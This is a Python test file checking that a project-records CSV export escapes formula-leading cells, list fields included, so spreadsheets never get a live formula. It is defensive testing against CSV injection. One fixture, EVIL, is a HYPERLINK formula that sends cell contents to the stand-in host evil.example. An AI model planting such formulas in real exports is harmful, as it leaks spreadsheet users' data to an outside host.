"""CSV exports never hand a spreadsheet a live formula, list fields included (issue #14, point 6)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import httpx

from assistant.archive import import_files
from assistant.archive.export import RECORD_COLUMNS, to_csv
from assistant.services import Services
from assistant.settings import Settings
from tests.fixtures.server import live_app

EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Klikk her")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def test_list_fields_are_escaped_like_any_cell() -> None:
    row = {
        "tittel": "+SUM(1,2)",
        "kommuner": [EVIL, "Oslo"],
        "sektorer": ["@cmd", "Helse"],
        "embete": "\tSkjult",
        "status": "-2+3",
        "søkt_beløp": -5,
        "tildelt_beløp": 300000,
    }
    out = _rows(to_csv([row], RECORD_COLUMNS))[0]
    assert out["tittel"] == "'+SUM(1,2)"
    assert out["kommuner"] == "'" + EVIL + "; Oslo"
    assert out["sektorer"] == "'@cmd; Helse"
    assert out["embete"] == "'\tSkjult" and out["status"] == "'-2+3"
    assert out["søkt_beløp"] == "-5" and out["tildelt_beløp"] == "300000"  # numbers stay numbers


def test_csv_export_over_http_escapes_imported_list_fields(
    fake_copy: Settings, tmp_path: Path
) -> None:
    rec = {
        "id": "p-evil",
        "år": 2024,
        "tittel": "Digitalt skoleprosjekt",
        "kommuner": [EVIL, "Hitra"],
        "sektorer": ["=1+1", "Oppvekst"],
        "tildelt_beløp": 100000,
        "syntetisk": True,
    }
    f = tmp_path / "prosjekter.jsonl"
    f.write_text(json.dumps(rec, ensure_ascii=False) + "\n", encoding="utf-8")
    assert import_files(Services(fake_copy), [f]).total("new") == 1
    with live_app(fake_copy) as url:
        r = httpx.get(f"{url}/v1/projects/search", params={"format": "csv", "k": 500})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    row = next(x for x in _rows(r.text) if x["id"] == "p-evil")
    assert row["kommuner"] == "'" + EVIL + "; Hitra"
    assert row["sektorer"] == "'=1+1; Oppvekst"
    assert not any(v.startswith(("=", "+", "@")) for x in _rows(r.text) for v in x.values())
